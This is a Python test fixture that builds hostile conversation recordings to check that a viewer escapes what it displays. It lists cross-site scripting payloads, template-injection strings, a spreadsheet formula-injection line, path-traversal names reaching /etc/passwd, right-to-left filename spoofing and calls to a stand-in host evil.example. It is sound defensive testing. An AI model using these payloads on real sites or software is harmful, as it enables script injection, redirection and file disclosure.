"""Hostile recordings: texts and names that would run a script or break a page that does not escape them."""

from __future__ import annotations

import base64
import json

from prepared import play

from foveate import Message
from foveate.core.messages import Media
from foveate.testing.builders import answer, call, say, user

__all__ = ["HOSTILE_NAMES", "HOSTILE_TEXTS", "MARK", "fill_hostile", "hostile"]

MARK = "foveate_was_here"
"""The property of `window` that hostile texts set if they run as a script."""

_RUN = f"window.{MARK}=1"
_SCRIPT = f"<script>{_RUN}</script>"

HOSTILE_TEXTS: dict[str, str] = {
    "script": f"<script>{_RUN}</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "closing tags": "</pre></code></td></details></template></style></title></textarea></script>" + _SCRIPT,
    "event handlers": f"<img src=x onerror='{_RUN}'><body onload='{_RUN}'><a onmouseover='{_RUN}' href=#>x</a>",
    "attribute break": f"\"><img src=x onerror=\"{_RUN}\"> ' onfocus='{_RUN}' autofocus='",
    "svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'><script>{_RUN}</script><use href='data:x'/></svg>",
    "data url": f"<iframe src='data:text/html,<script>parent.{_RUN}</script>'></iframe><embed src='data:text/html,x'>",
    "markdown link": f"[click](javascript:{_RUN}) ![x](https://evil.example/pixel.png) <javascript:{_RUN}>",
    "style": "<style>@import 'https://evil.example/x'; body{display:none}</style><link rel=icon href=//evil.example>",
    "base": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "form": "<form action='https://evil.example/' method=post><input name=x><button>Go</button></form>",
    "template": "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7} {{ config }} {{ ''.__class__.__mro__ }}",
    "right to left": "invoice_\u202egnp.exe \u2066\u2067 \u05e9\u05dc\u05d5\u05dd \u200f\u061c end",
    "ansi": f"\x1b[31mred\x1b[0m \x1b]8;;javascript:{_RUN}\x07link\x1b]8;;\x07 \x1b[{'9' * 99}m\x1b[38;<b>\x9b31m",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\u2028\u2029\ufeff\ufffe",
    "json": json.dumps({"<script>": f"</script><script>{_RUN}</script>", "__proto__": {"x": 1}, "a\u2028b": "\u0000"}),
    "html page": f"<!doctype html><html><head><script>{_RUN}</script></head><body onload='{_RUN}'>hello</body></html>",
    "diff": f"--- a/{_SCRIPT}\n+++ b/x\n@@ -1 +1 @@\n-<img src=x onerror='{_RUN}'>\n+</span>{_SCRIPT}\n",
    "table": f"name,<script>{_RUN}</script>\n=cmd|' /C calc'!A0,<img src=x onerror='{_RUN}'>\n" * 5,
}
"""Texts that would run a script, load something from outside, or break the page, if a page did not escape them."""

HOSTILE_NAMES: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    "a/b/../../etc/passwd",
    "..",
    ".",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f",
    "a~2Fb",
    "50% off?turn=3#m1",
    "line\nbreak\ttab",
    "carriage\rreturn",
    "bell\x07 escape\x1b[31m",
    "right\u202eto left",
    "  spaces  ",
    "C:\\windows\\system32",
    "日本語 🦊",
    "x" * 300,
)
"""Names of conversations that are hard to put into a page, a URL or a file name."""


def hostile(*, line: int = 0) -> list[Message]:
    """Return a conversation in which each text, tool, argument and medium is hostile. `line`: length of a long line."""
    messages = [user("\n".join(HOSTILE_TEXTS.values()))]
    for number, (what, text) in enumerate(HOSTILE_TEXTS.items()):
        name = "read_file" if number % 3 else f"<b onclick={_RUN}>{what}</b>"
        messages.append(call(f"<i>{number}", name, path=text, **{f"<u>{what}": [text, {"deep": text}]}))
        messages.append(answer(f"<i>{number}", text, state="error" if number % 5 == 0 else "ok"))
        messages.append(say(text))
    media = [
        Media("image/svg+xml", "base64", _base64(HOSTILE_TEXTS["svg"])),
        Media("text/html", "base64", _base64(HOSTILE_TEXTS["html page"])),
        Media("image/png", "base64", _base64(HOSTILE_TEXTS["html page"])),
        Media("image/png", "url", f"javascript:{_RUN}"),
        Media("image/png", "url", "https://evil.example/pixel.png"),
        Media(f"text/html;<script>{_RUN}</script>", "base64", "!!! not base64 <b>", f"<img src=x onerror={_RUN}>.png"),
    ]
    messages += [call("media", "screenshot"), answer("media", "pictures", *media)]
    if line:
        messages += [call("long", "read_file", path="one-line.js"), answer("long", "<b>" + "x" * (line - 3))]
        messages += [call("nested", "fetch"), answer("nested", "[" * (line // 10))]
    return [*messages, say("Done.")]


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def fill_hostile(store: str, *, line: int = 0) -> None:
    """Store the hostile conversation, and a short conversation under each hostile name."""
    play(store, "hostile", hostile(line=line), model="", window=100_000_000, policy="none")
    play(store, "hostile, shrunk", hostile(), window=6_000)
    for number, name in enumerate(HOSTILE_NAMES):
        play(store, name, [user(f"Question {number}"), say(f"Answer {number}")])
